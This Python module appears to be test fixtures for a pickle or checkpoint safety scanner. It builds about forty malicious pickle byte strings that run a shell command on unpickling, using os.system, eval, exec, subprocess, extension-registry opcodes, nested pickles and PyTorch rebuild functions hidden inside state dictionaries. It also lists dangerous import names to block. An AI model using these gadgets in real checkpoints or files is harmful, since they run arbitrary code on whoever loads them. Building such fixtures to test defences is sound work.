"""Pickles that run a command when they are unpickled, and names that no checkpoint needs."""

# Numbers of copyreg's registry that tests may use for themselves: posix.system lies there.
EXTENSION = 241


def text(value):
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def name(dotted):
    module, _, attribute = dotted.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def gadgets(command, trap, array_file):
    """Programs by what they are about.

    ``trap`` is an importable class that runs the state it is given; ``array_file`` is a NumPy file
    of one object whose pickle runs the command.
    """
    script = f"__import__('os').system({command!r})"
    module = call(name("__builtin__.__import__"), text("os"))
    system = name("posix.system")
    run = call(system, text(command))
    size = len(command).to_bytes(1, "little")
    short = b"U" + size + command.encode()
    stack_global = b"\x8c\x05posix\x8c\x06system\x93"
    inner = b"\x80\x02" + run + b"."
    as_bytes = call(name("_codecs.encode"), text(inner.decode("latin1")), text("latin1"))
    tensor = b"}" + text("w")
    programs = {
        "system": run,
        "eval": call(name("__builtin__.eval"), text(script)),
        "exec": call(name("__builtin__.exec"), text(script)),
        "subprocess": call(name("subprocess.getoutput"), text(command)),
        "timeit": call(
            name("timeit.timeit"), text(script), text("pass"), name("time.time"), b"K\1"
        ),
        "getattr": call(call(name("__builtin__.getattr"), module, text("system")), text(command)),
        "attrgetter": call(
            call(call(name("operator.attrgetter"), text("system")), module), text(command)
        ),
        "methodcaller": call(
            call(name("operator.methodcaller"), text("system"), text(command)), module
        ),
        "partial": call(call(name("functools.partial"), system, text(command))),
        "map": call(
            name("__builtin__.list"),
            call(name("__builtin__.map"), system, b"]" + text(command) + b"a"),
        ),
        "nested pickle": call(name("_pickle.loads"), as_bytes),
        "nested pickle of protocol 4": b"\x80\x04c_pickle\nloads\nC"
        + bytes([len(inner)])
        + inner
        + b"\x85R",
        "numpy file": call(name("numpy.load"), text(array_file), b"N", b"\x88"),
        "state of an object": name(trap) + b")\x81" + text(command) + b"b",
        "state of a call": call(name(trap)) + text(command) + b"b",
        "new object": name(trap) + text(command) + b"\x85\x81",
        "new object with keywords": b"\x80\x04"
        + name(trap)
        + b")}"
        + text("command")
        + text(command)
        + b"s\x92",
        "INST": b"(" + short + b"iposix\nsystem\n",
        "OBJ": b"(" + system + short + b"o",
        "EXT1": call(b"\x82" + bytes([EXTENSION]), text(command)),
        "EXT2": call(b"\x83" + EXTENSION.to_bytes(2, "little"), text(command)),
        "EXT4": call(b"\x84" + EXTENSION.to_bytes(4, "little"), text(command)),
        "STACK_GLOBAL": b"\x80\x04" + call(stack_global, text(command)),
        "STACK_GLOBAL behind protocol 2": call(stack_global, text(command)),
        "STACK_GLOBAL of remembered text": text("system")
        + b"q\1"
        + text("posix")
        + b"h\1\x93"
        + text(command)
        + b"\x85R\x86",
        "text of protocol 0": b"cos\nsystem\n(V" + command.encode() + b"\ntR",
        "protocol 5": b"\x80\x05" + run,
        "popped": run + b"0}",
        "popped with its mark": b"}(" + run + b"1",
        "duplicated": system + b"2" + text(command) + b"\x85R\x86",
        "remembered": system + b"q\0" + b"0h\0" + text(command) + b"\x85R",
        "persistent id": run + b"Q",
        "storage type": b"(" + text("storage") + run + text("0") + text("cpu") + b"K\1tQ",
        "tensor": call(name("torch._utils._rebuild_tensor_v2"), run),
        "parameter": call(name("torch._utils._rebuild_parameter"), run, b"\x89", b"}"),
        "argument of a harmless name": call(name("torch.device"), run),
        "attribute of a state dictionary": name("collections.OrderedDict")
        + b")R}"
        + text("_metadata")
        + run
        + b"sb",
        "setting": b"}" + text("hyper_parameters") + b"}" + text("x") + run + b"ss",
        "state of an optimizer": b"}" + text("optimizer_states") + b"]" + run + b"as",
        "weight": tensor + run + b"s",
        "key": b"}" + run + b"Ns",
    }
    return {
        about: (b"" if program[:1] == b"\x80" else b"\x80\x02") + program + b"."
        for about, program in programs.items()
    }


UNLISTED_NAMES = (
    "os.system",
    "os.popen",
    "nt.system",
    "sys.exit",
    "pty.spawn",
    "runpy.run_path",
    "webbrowser.open",
    "shutil.rmtree",
    "ctypes.CDLL",
    "code.interact",
    "importlib.import_module",
    "logging.config.listen",
    "pickle.loads",
    "joblib.load",
    "torch.load",
    "torch.hub.load",
    "torch.jit.load",
    "torch.ops.load_library",
    "torch.storage._load_from_bytes",
    "torch._utils._rebuild_tensor_v3",
    "torch._utils._rebuild_tensor_v2.__globals__",
    "torch.serialization.load",
    "numpy.load",
    "numpy.testing._private.utils.runstring",
    "numpy.core.multiarray._reconstruct",
    "collections.OrderedDict.fromkeys",
    "collections.Counter",
    "pathlib.Path",
    "argparse.ArgumentParser",
    "_codecs.lookup",
    "builtins.dict",
    "__builtin__.open",
    "dill._dill._create_function",
    "cloudpickle.cloudpickle._make_function",
    "lightning.pytorch.core.module.LightningModule",
    # Near the listed names.
    "torch.FloatStorage.__new__",
    "torch.floatstorage",
    "torch.float32 ",
    "torch. float32",
)
